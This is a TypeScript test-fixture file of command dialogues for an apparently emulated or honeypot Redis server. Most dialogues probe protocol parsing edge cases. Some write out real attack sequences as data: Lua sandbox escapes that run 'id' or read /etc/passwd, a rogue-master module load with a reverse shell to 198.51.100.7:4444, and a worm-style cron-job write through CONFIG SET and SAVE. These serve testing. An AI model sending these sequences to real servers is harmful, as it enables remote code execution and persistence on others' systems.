import fs from 'node:fs'
import { accessControl } from './access.ts'
import type { Step } from './dialogue.ts'
import { lua } from './lua.ts'

/** A command without quoting: words between single spaces. */
const c = (line: string): Step => line.split(' ')
const lines = (text: string): Step[] =>
  text
    .trim()
    .split('\n')
    .map(line => c(line.trim()))

/** What needs other words than those between single spaces, or none. */
const special: Record<string, readonly Step[]> = {
  'inline commands': [
    'PING\r\n',
    'ping\n',
    '\r\n',
    '   \r\n',
    'PING hello\r\n',
    'ECHO "hello world"\r\n',
    "ECHO 'it\\'s'\r\n",
    'ECHO "a\\x41\\n\\t\\"q"\r\n',
    'ECHO ""\r\n',
    'SET k "v v"\r\nGET k\r\n',
    '  GET   k  \r\n',
    'FOO bar "baz qux"\r\n',
    'ECHO "open\r\n',
  ],
  'a quote in the middle of a word': ['ECHO a"b"\r\n', 'ECHO "a"b\r\n'],
  'a single quote that stays open': ["ECHO 'a\r\n"],
  'an inline line that is too long': [`${'A'.repeat(70_000)}`],
  'a multibulk count that is no number': ['*x\r\n'],
  'a multibulk count that is too large': ['*2147483648\r\n'],
  'a multibulk count of nothing': ['*0\r\n', '*-1\r\n', '*-10\r\n', 'PING\r\n'],
  'something else than a bulk': ['*1\r\n:1\r\n'],
  'an empty line for a bulk': ['*1\r\n\r\n'],
  'a byte that cannot be shown for a bulk': ['*1\r\n\x01\r\n'],
  'a negative bulk': ['*1\r\n$-1\r\n'],
  'a bulk that is no number': ['*1\r\n$abc\r\n'],
  'a bulk with a sign': ['*1\r\n$+4\r\nPING\r\n'],
  'a bulk with a leading zero': ['*1\r\n$04\r\nPING\r\n'],
  'a bulk over the limit': ['*1\r\n$536870913\r\n'],
  'a multibulk count with a sign': ['*+1\r\n$4\r\nPING\r\n'],
  'a bulk header without an end': [`*1\r\n$${'1'.repeat(70_000)}`],
  'a multibulk header without an end': [`*${'1'.repeat(70_000)}`],
  'bulks that do not end in CRLF': ['*1\r\n$4\r\nPINGxxPING\r\n'],
  'empty bulks': ['*1\r\n$0\r\n\r\n', '*2\r\n$4\r\nECHO\r\n$0\r\n\r\n'],
  pipelined: ['*1\r\n$4\r\nPING\r\nPING\r\n*2\r\n$3\r\nGET\r\n$1\r\nk\r\nNOPE\r\nPING\r\n'],
  'another protocol: a web page': ['POST / HTTP/1.1\r\nHost: x\r\n\r\n'],
  'another protocol: a request': ['GET / HTTP/1.1\r\nHost: x\r\n\r\n'],
  'another protocol: TLS': ['\x16\x03\x01\x00\x05hello\r\n'],
  'another protocol: SSH': ['SSH-2.0-Go\r\n'],
  quit: [c('QUIT')],
  'quit inline': ['quit\r\nPING\r\n'],
  unknown: [
    ...lines(`
      NOPE
      nope a b c
      constructor
      __proto__ x`),
    ['NOPE', 'x'.repeat(200), 'y'.repeat(200)],
    ['N'.repeat(200), 'a'],
    ['NOPE', "it's", 'a\r\nb'],
    ['NOPE', ...Array.from({ length: 60 }, (_, i) => `a${i}`)],
    ['BAD\r\nNAME'],
  ],
  'a password is set and the next one has to know it': [
    c('CONFIG SET requirepass hunter2'),
    c('RESET'),
    c('PING'),
    c('GET x'),
    c('NOPE'),
    c('GET'),
    'INFO\r\n',
    c('HELLO 3'),
    c('HELLO'),
    c('AUTH wrong'),
    c('AUTH default wrong'),
    c('AUTH hunter2'),
    c('PING'),
    c('ACL LIST'),
  ],
  'unauthenticated: too many words': [c('CONFIG SET requirepass hunter2'), c('RESET'), '*11\r\n'],
  'unauthenticated: too long a word': [c('CONFIG SET requirepass hunter2'), c('RESET'), '*1\r\n$16385\r\n'],
  'client replies off': [
    c('CLIENT REPLY OFF'),
    c('PING'),
    c('CLIENT REPLY ON'),
    c('CLIENT REPLY SKIP'),
    c('PING'),
    c('PING'),
  ],
  'modules, scripts and functions': [
    ['SCRIPT', 'LOAD', 'return 1'],
    ['SCRIPT', 'LOAD', 'return ('],
    ['SCRIPT', 'EXISTS', 'e0e1f9fabfc9d4800c877a703b823ac0578ff8db', 'x'],
    ['EVALSHA', 'e0e1f9fabfc9d4800c877a703b823ac0578ff8db', '0'],
    ['EVAL', 'return 1', '0'],
    ['EVAL', "return 'hello'", '0'],
    ['EVAL', 'return "hello"', '0'],
    ['EVAL', 'return {1,2,3}', '0'],
    ['EVAL', 'return nil', '0'],
    ['EVAL', 'return', '0'],
    ['EVAL', 'return true', '0'],
    ['EVAL', 'return false', '0'],
    ['EVAL', 'return KEYS[1]', '1', 'k'],
    ['EVAL', 'return ARGV[1]', '0', 'a'],
    ['EVAL', "return redis.call('ping')", '0'],
    ['EVAL', "return redis.call('set','x','1')", '0'],
    ['EVAL', "return redis.call('get','x')", '0'],
    ['EVAL', "return redis.call('info','cluster')", '0'],
    ['EVAL', "return redis.call('nope')", '0'],
    ['EVAL', "return redis.pcall('nope')", '0'],
    ['EVAL', 'return 3.9', '0'],
    ['EVAL', 'return (', '0'],
    ['EVAL', 'bogus', '0'],
    ['EVAL', 'return _VERSION', '0'],
    ['EVAL', "return os.execute('id')", '0'],
    ['EVAL', "return io.popen('id')", '0'],
    ['EVAL', "return package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')", '0'],
    [
      'EVAL',
      'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res',
      '0',
    ],
    ['EVAL', 'dofile("/etc/passwd")', '0'],
    ['EVAL', "return loadstring('return 1')()", '0'],
    ['EVAL', "return redis.sha1hex('')", '0'],
    ['EVAL', "return redis.error_reply('My Err')", '0'],
    ['EVAL', "return redis.status_reply('FINE')", '0'],
    ['EVAL', "error('boom')", '0'],
  ],
  lua,
  'access control': accessControl,
  monitor: lines(`
    MONITOR
    PING`),
  'a rogue master, whose module never comes': [
    ...lines(`
      CONFIG SET dir /var/tmp
      CONFIG SET dbfilename skep-oracle-root
      SLAVEOF 127.0.0.1 9
      MODULE LOAD /var/tmp/skep-oracle-root
      MODULE LOAD ./skep-oracle-root
      system.exec id
      SLAVEOF NO ONE`),
    ['SET', 'x', '\x7fELF'],
    ...lines(`
      SAVE
      MODULE LOAD /var/tmp/skep-oracle-root
      MODULE LIST
      MODULE UNLOAD system
      system.exec id
      system.rev 198.51.100.7 4444`),
  ],
  'a cron job, the way worms leave one': [
    c('INFO'),
    c('CONFIG SET stop-writes-on-bgsave-error no'),
    c('FLUSHALL'),
    ['SET', 'backup1', '\n\n\n*/2 * * * * root true\n\n'],
    c('CONFIG SET dir /var/tmp/'),
    c('CONFIG SET dbfilename skep-oracle-root'),
    c('SAVE'),
    c('CONFIG GET dir'),
    c('QUIT'),
  ],
  'large values': [
    ['SET', 'big', 'x'.repeat(200_000)],
    c('STRLEN big'),
    c('GETRANGE big 199998 -1'),
    ['APPEND', 'big', 'y'.repeat(100_000)],
    c('OBJECT ENCODING big'),
    ['ECHO', 'z'.repeat(100_000)],
  ],
}

/** commands.txt: `== name`, then one command a line. */
const plain = Object.fromEntries(
  fs
    .readFileSync(new URL('./commands.txt', import.meta.url), 'utf8')
    .split(/^== /m)
    .slice(1)
    .map(part => {
      const [name = '', ...commands] = part.trim().split('\n')
      return [name, commands.map(c)] as const
    }),
)

/** Dialogues at a server open to the world; each begins with an empty data set. */
export const dialogues: Record<string, readonly Step[]> = { ...plain }
for (const [name, steps] of Object.entries(special)) dialogues[name] = [...(plain[name] ?? []), ...steps]
